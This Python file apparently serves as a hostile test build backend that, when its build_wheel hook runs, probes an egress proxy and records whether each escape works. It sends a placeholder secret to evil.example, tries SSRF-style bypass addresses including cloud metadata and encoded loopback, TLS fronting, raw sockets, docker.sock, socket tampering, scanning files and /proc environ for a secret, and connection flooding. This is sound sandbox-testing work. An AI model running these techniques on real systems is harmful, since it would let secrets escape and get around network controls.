"""A build backend that tries to get a secret out of the install phase; what it tells goes to /tmp/said."""

import os
import socket
import ssl

import attempts
from attempts import attempt

PORT, WORD = os.environ["LISTED_PORT"], os.environ["WORD"][::-1]
LISTED = f"listed.example:{PORT}"
SECRET = b"stolen-by-the-build"
REFUSED = (
    "evil.example:443", f"evil.example:{PORT}", "listed.example:22", f"sub.listed.example:{PORT}",
    f"listed.example.evil.example:{PORT}", f"user@evil.example:{PORT}", f"{LISTED}@evil.example:443",
    f"evil.example:443#{LISTED}", f"evil.example:443/{LISTED}", f"listed.example%00.evil.example:{PORT}",
    f"listed.example\tevil.example:{PORT}", f":{PORT}", "",
    "1.1.1.1:443", "169.254.169.254:80", f"127.0.0.1:{PORT}", f"0x7f000001:{PORT}", f"2130706433:{PORT}",
    f"0177.0.0.1:{PORT}", f"127.1:{PORT}", f"0:{PORT}", f"[::1]:{PORT}", f"[::ffff:127.0.0.1]:{PORT}",
    f"[::ffff:7f00:1]:{PORT}", "[64:ff9b::a9fe:a9fe]:80", "[fe80::1%25eth0]:80", f"localhost:{PORT}",
    "private.example:443", "metadata.example:443", "mapped.example:443", "translated.example:443",
    "compatible.example:443", "sitelocal.example:443", "mixed.example:443", "unknown.example:443",
)  # fmt: skip


def unix(path="/proxy/egress.sock"):
    one = socket.socket(socket.AF_UNIX)
    one.settimeout(8)
    one.connect(path)
    return one


def ask(data):
    with unix() as one:
        one.sendall(data)
        return answer(one)


def answer(one):
    got = one.recv(65536)
    if not got.startswith((b"HTTP/1.1 2", b"GET")):
        raise OSError(got[:40])
    return got


def tunnel(authority):
    one = unix()
    one.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    answer(one)
    return one


def inside(data, authority=LISTED):
    """What a server behind the tunnel sends back of what it got."""
    with tunnel(authority) as one:
        one.sendall(data)
        got = one.recv(65536)
        if not got or got.startswith(b"HTTP/1.1 403"):
            raise OSError("the tunnel ended")
        return got


def hello(name):
    context = ssl._create_unverified_context()
    sent = ssl.MemoryBIO()
    connection = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name)
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()


def carried(request):
    """Whether a plain origin got to see the secret."""
    got = ask(request)
    if SECRET not in got:
        raise OSError(f"only {got[:60]}")
    return got


def http():
    plain = f"http://plain.example:{PORT}/"
    attempt("post", lambda: ask(b"POST http://evil.example/ HTTP/1.1\r\nContent-Length: 19\r\n\r\n" + SECRET))
    attempt("get", lambda: ask(b"GET http://evil.example/?" + SECRET + b" HTTP/1.1\r\n\r\n"))
    attempt("get listed in plain", lambda: ask(f"GET http://{LISTED}/ HTTP/1.1\r\n\r\n".encode()))
    attempt("post plain", lambda: ask(f"POST {plain} HTTP/1.1\r\n\r\n".encode() + SECRET))
    attempt("put plain", lambda: ask(f"PUT {plain} HTTP/1.1\r\n\r\n".encode() + SECRET))
    for name, rest in (
        ("header", b"X: " + SECRET + b"\r\n\r\n"),
        ("host header", b"Host: " + SECRET + b"\r\n\r\n"),
        ("body", b"Content-Length: 19\r\n\r\n" + SECRET),
        ("second request", b"\r\nPOST / HTTP/1.1\r\nHost: evil\r\n\r\n" + SECRET),
        ("bare CR", b"X: y\rPOST / HTTP/1.1\r" + SECRET + b"\r\n\r\n"),
        ("bare LF", b"X: y\n" + SECRET + b"\n\r\n\r\n"),
    ):
        attempt(f"plain {name}", lambda rest=rest: carried(f"GET {plain} HTTP/1.1\r\n".encode() + rest))
    attempt("oversized header", lambda: ask(b"CONNECT " + b"a" * 20_000 + b":443 HTTP/1.1\r\n\r\n"))
    attempt("noise", lambda: ask(os.urandom(4000).replace(b"\r", b"") + b"\r\n\r\n"))


def fronting():
    attempt("another name", lambda: inside(hello("evil.example")))
    attempt("no name", lambda: inside(hello(None)))
    attempt("no TLS", lambda: inside(b"POST / HTTP/1.1\r\n\r\n" + SECRET))
    attempt("ssh", lambda: inside(b"SSH-2.0-x\r\n" + SECRET))
    attempt("half a hello", lambda: inside(hello("listed.example")[:50]))
    attempt("a hello that never ends", lambda: inside(b"\x16\x03\x01\x40\x00" + b"\x01\x00\x3f\xfc" + SECRET * 200))


def around():
    def direct(kind, address):
        with socket.socket(type=kind) as one:
            one.settimeout(2)
            one.connect(address)
            one.send(SECRET)
            return one.recv(1) if kind == socket.SOCK_STREAM else address

    attempt("tcp", lambda: direct(socket.SOCK_STREAM, ("1.1.1.1", 443)))
    attempt("udp", lambda: direct(socket.SOCK_DGRAM, ("1.1.1.1", 53)))
    attempt("dns", lambda: socket.gethostbyname("evil.example"))
    attempt("write beside the socket", lambda: os.open("/proxy/x", os.O_CREAT | os.O_WRONLY))
    attempt("remove the socket", lambda: os.unlink("/proxy/egress.sock"))
    attempt("replace the socket", lambda: os.rename("/proxy/egress.sock", "/proxy/y"))
    attempt("change the socket", lambda: os.chmod("/proxy/egress.sock", 0o777))
    attempt("link out of the socket's directory", lambda: os.symlink("/", "/proxy/z"))
    attempt("other files beside the socket", lambda: others(os.listdir("/proxy")))
    attempt("the engine's socket", lambda: unix("/var/run/docker.sock"))


def others(names):
    if sorted(names) == ["egress.sock"]:
        raise OSError("only the socket")
    return names


def search():
    """Whether the worker's secret is anywhere here."""
    for folder, _, names in os.walk("/", onerror=None):
        if folder.startswith(("/sys", "/usr", "/proc")):
            continue
        for name in names:
            look(os.path.join(folder, name))
    for process in os.listdir("/proc"):
        for name in ("environ", "cmdline", "mountinfo"):
            look(f"/proc/{process}/{name}")
    raise OSError("not found")


def look(path):
    try:
        if not os.path.islink(path) and os.path.isfile(path) and os.path.getsize(path) < 1 << 24:
            with open(path, "rb") as file:
                found = WORD.encode() in file.read()
        else:
            found = False
    except OSError:
        return
    if found:
        os.write(1, f"FOUND {path}\n".encode())
        raise SystemExit(3)


def flood():
    """Hold connections half open until no more are taken, then more than anybody honest opens."""
    held = [unix() for _ in range(64)]
    attempt("beyond the connections at once", lambda: answer(held_one()))
    for one in held:
        one.close()
    for _ in range(1100):
        try:
            ask(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
        except OSError:
            continue
    attempt("after a thousand refusals", lambda: unix().close())


def held_one():
    one = unix()
    one.sendall(b"CONNECT listed.example:443 HTTP/1.1\r\n\r\n")
    return one


def main():
    said = os.open("/tmp/said", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    attempts.tell = lambda name, done, detail: tell_into(said, name, done, detail)
    for authority in REFUSED:
        attempt(f"CONNECT {authority}", lambda authority=authority: tunnel(authority).close())
    attempt("the worker's secret", search)
    http()
    fronting()
    around()
    flood()


def tell_into(descriptor, name, done, detail):
    os.write(descriptor, (attempts.json.dumps([name, bool(done), str(detail)[:200]]) + "\n").encode())


def build_wheel(*_, **__):
    main()
    raise SystemExit("the build has done what it came for")
